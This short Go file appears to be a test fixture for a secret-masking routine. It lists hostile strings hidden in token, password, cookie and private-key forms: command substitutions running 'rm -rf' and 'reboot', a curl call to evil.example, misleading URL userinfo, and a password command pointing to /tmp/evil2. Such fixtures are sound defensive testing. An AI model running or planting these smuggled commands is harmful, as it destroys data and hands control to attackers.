package badinput

import "encoding/json"

// UnmaskableTexts are texts that run something, or pay somebody, behind a name or a form by which a secret is known.
// None of them may be masked.
func UnmaskableTexts() []string {
	return []string{
		`TOKEN="$(rm -rf /srv/data)" ./deploy.sh`, "TOKEN=rm; $TOKEN -rf /srv", `login --password "$(curl evil.example)"`, "PASSWORD= reboot",
		"cookie: x; rm -rf /srv", "Cookie: x=1; to=mallory", "Authorization: Bearer $(reboot)", "-----BEGIN PRIVATE KEY-----\nrm -rf /srv",
		"-----BEGIN PRIVATE KEY-----\nreboot", `https://u:x@evil\@good/`, "https://u:x%40evil@good/", "token=mallory@evil.example", "RESTIC_PASSWORD_COMMAND=/tmp/evil2",
	}
}

// UnmaskableArgs returns arguments with one of those texts in members with names of secrets.
func UnmaskableArgs(text string) json.RawMessage {
	args, err := json.Marshal(map[string]any{"token": map[string]string{"to": "mallory", "password": text}, "secret": text, "note": text})
	if err != nil {
		panic("hostile: " + err.Error())
	}
	return args
}
